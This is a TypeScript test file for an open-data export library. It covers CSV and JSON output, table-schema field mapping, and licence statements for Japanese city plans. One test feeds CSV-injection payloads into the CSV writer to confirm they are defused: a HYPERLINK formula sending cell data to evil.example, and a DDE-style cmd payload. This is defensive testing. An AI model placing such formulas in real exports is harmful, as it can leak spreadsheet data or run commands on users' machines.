import { describe, expect, it } from 'vitest';
import { cellText, toCsv, toJson } from '../../src/lib/open-data/write-csv.ts';
import { frictionlessField } from '../../src/lib/open-data/data-files.ts';
import { describeLicence, licenceStatement, licenceTerms } from '../../src/lib/open-data/licences.ts';
import type { ColumnSpec } from '../../src/schemas/column-spec.ts';

const columns: ColumnSpec[] = [
  { name: 'code', label: 'コード', type: 'municipality_code', required: true, description: '' },
  { name: 'text', label: '文', type: 'text', required: false, description: '' },
  { name: 'value', label: '値', type: 'number', required: false, description: '' },
  { name: 'flag', label: '旗', type: 'boolean', required: true, description: '' },
];

describe('toCsv', () => {
  it('writes a BOM, CRLF line ends and RFC 4180 quoting', () => {
    const csv = toCsv(columns, [
      { code: '032069', text: 'カンマ,と"引用符"', value: 3096, flag: true },
      { code: '032069', text: '一行目\n二行目', value: null, flag: false },
    ]);
    expect(csv).toBe('\uFEFFcode,text,value,flag\r\n032069,"カンマ,と""引用符""",3096,true\r\n032069,"一行目\n二行目",,false\r\n');
  });
  it('writes a table without rows as its header line alone', () => {
    expect(toCsv(columns, [])).toBe('\uFEFFcode,text,value,flag\r\n');
  });
  it('writes blanks as empty cells, never 0, and numbers without grouping', () => {
    expect([cellText(null), cellText(0), cellText(61.9), cellText(5600)]).toEqual(['', '0', '61.9', '5600']);
  });

  it('writes no text cell that a spreadsheet runs as a formula, and negative numbers as numbers', () => {
    const csv = toCsv(columns, [
      { code: '032069', text: '=HYPERLINK("https://evil.example/?"&A2,"詳細")', value: -3, flag: true },
      { code: '032069', text: "-2+3+cmd|' /C calc'!A0", value: -0.5, flag: false },
      { code: '032069', text: '  =1+1', value: null, flag: false },
      { code: '032069', text: '\t@SUM(1+1)', value: 0, flag: false },
      { code: '032069', text: '+81-197', value: 1, flag: false },
    ]);
    expect(csv.split('\r\n').slice(1, -1)).toEqual([
      `032069,"'=HYPERLINK(""https://evil.example/?""&A2,""詳細"")",-3,true`,
      `032069,'-2+3+cmd|' /C calc'!A0,-0.5,false`,
      `032069,'  =1+1,,false`,
      `032069,'\t@SUM(1+1),0,false`,
      `032069,'+81-197,1,false`,
    ]);
  });
});

describe('toJson', () => {
  it('keeps codes as strings and blanks as null', () => {
    expect(JSON.parse(toJson(columns, [{ code: '032069', text: null, value: null, flag: true }]))).toEqual([
      { code: '032069', text: null, value: null, flag: true },
    ]);
  });
  it('keeps text exactly, even text that would be a formula in a spreadsheet', () => {
    expect(JSON.parse(toJson(columns, [{ code: '032069', text: '=1+1', value: -3, flag: true }]))).toEqual([
      { code: '032069', text: '=1+1', value: -3, flag: true },
    ]);
  });
});

describe('frictionlessField', () => {
  it('maps our column types to table-schema types with constraints', () => {
    expect(frictionlessField(columns[0]!)).toMatchObject({
      name: 'code',
      type: 'string',
      constraints: { required: true, pattern: '^[0-9]{6}$' },
    });
    expect(frictionlessField(columns[2]!)).toMatchObject({ type: 'number' });
    expect(frictionlessField(columns[3]!)).toMatchObject({ type: 'boolean', trueValues: ['true'], falseValues: ['false'] });
  });
});

describe('licences', () => {
  const kitakami = {
    title: '北上市情報基本計画2026（案）',
    licence: null,
    publisher: '北上市企画部都市プロモーション課情報政策推進室',
    contact: null,
    phone: '0197-72-8325',
    email: null,
  };
  const yokote = {
    title: '横手市デジタル推進計画',
    licence: null,
    publisher: '横手市',
    contact: '横手市総務企画部 情報政策課',
    phone: '0182-35-2166',
    email: 'densan@city.yokote.lg.jp',
  };

  it('states a licence only when the city has set one, and otherwise says whom to ask — never a default', () => {
    expect(licenceStatement({ ...kitakami, licence: 'CC BY 4.0' })).toEqual({
      stated: true,
      name: 'CC BY 4.0',
      id: 'CC-BY-4.0',
      url: 'https://creativecommons.org/licenses/by/4.0/deed.ja',
      title: 'クリエイティブ・コモンズ 表示 4.0 国際',
    });
    expect(licenceStatement(kitakami)).toEqual({
      stated: false,
      text: 'ライセンス（利用条件）は原本に記載がなく、このサイトでも定めていません。利用条件は北上市企画部都市プロモーション課情報政策推進室（電話 0197-72-8325）にお問い合わせください。',
    });
    expect(licenceStatement(yokote)).toEqual({
      stated: false,
      text: 'ライセンス（利用条件）は原本に記載がなく、このサイトでも定めていません。利用条件は横手市総務企画部 情報政策課（電話 0182-35-2166、メール densan@city.yokote.lg.jp）にお問い合わせください。',
    });
    expect(licenceStatement({ ...kitakami, publisher: '盛岡市', phone: null })).toMatchObject({
      text: expect.stringContaining('利用条件は盛岡市にお問い合わせください。'),
    });
  });

  it('gives metadata one licence only when every plan states the same one, else a rights statement per plan', () => {
    const stated = { ...kitakami, licence: 'CC BY 4.0' };
    expect(licenceTerms([stated, { ...yokote, licence: 'CC BY 4.0' }])).toEqual({ licences: [describeLicence('CC BY 4.0')], rights: null });
    const mixed = licenceTerms([stated, yokote]);
    expect(mixed.licences).toEqual([describeLicence('CC BY 4.0')]);
    expect(mixed.rights).toBe(
      '北上市情報基本計画2026（案）：クリエイティブ・コモンズ 表示 4.0 国際（CC BY 4.0）。 横手市デジタル推進計画：ライセンス（利用条件）は原本に記載がなく、このサイトでも定めていません。利用条件は横手市総務企画部 情報政策課（電話 0182-35-2166、メール densan@city.yokote.lg.jp）にお問い合わせください。',
    );
    expect(licenceTerms([kitakami]).licences).toEqual([]);
    expect(licenceTerms([kitakami]).rights).toContain('北上市情報基本計画2026（案）：ライセンス（利用条件）は原本に記載がなく');
  });
});
